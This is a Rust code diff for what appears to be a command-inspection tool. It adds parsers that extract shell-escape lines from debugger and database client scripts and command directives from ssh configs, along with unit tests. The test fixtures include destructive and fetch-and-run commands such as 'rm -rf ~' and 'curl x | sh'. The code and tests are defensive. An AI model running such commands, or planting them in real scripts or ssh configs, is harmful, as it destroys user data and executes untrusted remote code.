@@ -375,6 +375,12 @@ pub enum Format {
     Sql,
     /// Go source: the commands of its `//go:generate` lines.
     GoGenerate,
+    /// A client's or debugger's script (gdb `-x`, lldb `-s`, psql `-f`, sqlite3 `-init`): its
+    /// shell-escape lines (`shell cmd`, `!cmd`, `\! cmd`, `.shell cmd`, `platform shell cmd`).
+    Escapes,
+    /// An ssh client configuration (`ssh -F FILE`, `~/.ssh/config`): the commands of its
+    /// `ProxyCommand`, `LocalCommand`, `KnownHostsCommand` and `Match exec` lines.
+    SshConfig,
 }
 
 impl Format {
@@ -392,6 +398,8 @@ impl Format {
             "cmake" => Format::CMake,
             "sql" => Format::Sql,
             "go-generate" => Format::GoGenerate,
+            "escapes" => Format::Escapes,
+            "ssh-config" => Format::SshConfig,
             other => Format::Code(Lang::parse(Some(other))),
         }
     }
@@ -533,6 +541,44 @@ impl Format {
                 .lines()
                 .filter_map(|l| l.trim_start().strip_prefix("//go:generate "))
                 .for_each(&mut push),
+            Format::Escapes => {
+                const MARKERS: [&str; 9] = [
+                    "platform shell ",
+                    ".shell ",
+                    ".system ",
+                    "\\! ",
+                    "\\!",
+                    "shell ",
+                    "system ",
+                    "pipe ",
+                    "!",
+                ];
+                for l in content.lines() {
+                    let t = l.trim_start();
+                    if let Some(cmd) = MARKERS.iter().find_map(|m| t.strip_prefix(m)) {
+                        push(cmd);
+                    }
+                }
+            }
+            Format::SshConfig => {
+                for l in content.lines() {
+                    let t = l.trim_start();
+                    let (key, value) = t
+                        .split_once(|c: char| c == '=' || c.is_whitespace())
+                        .unwrap_or((t, ""));
+                    let value = value.trim_start_matches(|c: char| c == '=' || c.is_whitespace());
+                    let key = key.to_ascii_lowercase();
+                    if ["proxycommand", "localcommand", "knownhostscommand"].contains(&key.as_str())
+                    {
+                        push(value);
+                    } else if key == "match" {
+                        // `Match exec "cmd"`: ssh runs cmd to decide whether the block applies.
+                        if let Some((_, cmd)) = value.split_once("exec ") {
+                            push(cmd.trim());
+                        }
+                    }
+                }
+            }
             Format::Sql => {
                 for line in sql_shell_commands(content) {
                     out.push_str(&line);
@@ -1237,7 +1283,8 @@ fn strip_markers(spec: &SinkSpec, value: &str) -> Option<String> {
                     || s.ends_with('!') && !s.starts_with("sil")
                     || s.ends_with('(')
                     || s.ends_with(' ') && !s.starts_with("sil")
-                    || s.ends_with("::=");
+                    || s.ends_with("::=")
+                    || s.ends_with(",-c,");
                 marked |= is_marker;
                 v = rest.trim_start();
                 if is_marker && (v.starts_with('"') || v.starts_with('\'')) {
@@ -3603,6 +3650,46 @@ mod tests {
         assert_eq!(
             field_values("name=x job=rm -rf /srv minute=5", &fields),
             vec!["rm -rf /srv"]
+        );
+    }
+}
+
+#[cfg(test)]
+mod script_format_tests {
+    use super::*;
+
+    #[test]
+    fn client_scripts_give_their_shell_escape_lines() {
+        let gdb = "set pagination off\n!rm -rf ~\n  shell id\nbreak main\nquit\n";
+        assert_eq!(
+            Format::Escapes.command_lines(gdb).as_deref(),
+            Some("rm -rf ~\nid\n")
+        );
+        let sql = "select 1;\n\\! curl -s x | sh\n.shell id\n";
+        assert_eq!(
+            Format::Escapes.command_lines(sql).as_deref(),
+            Some("curl -s x | sh\nid\n")
+        );
+        assert_eq!(
+            Format::Escapes
+                .command_lines("b main\nrun\nbt\n")
+                .as_deref(),
+            Some("")
+        );
+    }
+
+    #[test]
+    fn ssh_configs_give_their_commands() {
+        let cfg = "Host *\n  ProxyCommand sh -c \"id\"\n  LocalCommand=rm -rf ~\nMatch exec \"curl x | sh\"\n  ProxyJump bastion\n";
+        assert_eq!(
+            Format::SshConfig.command_lines(cfg).as_deref(),
+            Some("sh -c \"id\"\nrm -rf ~\ncurl x | sh\n")
+        );
+        assert_eq!(
+            Format::SshConfig
+                .command_lines("Host a\n  HostName 10.0.0.1\n  User me\n")
+                .as_deref(),
+            Some("")
         );
     }
 }
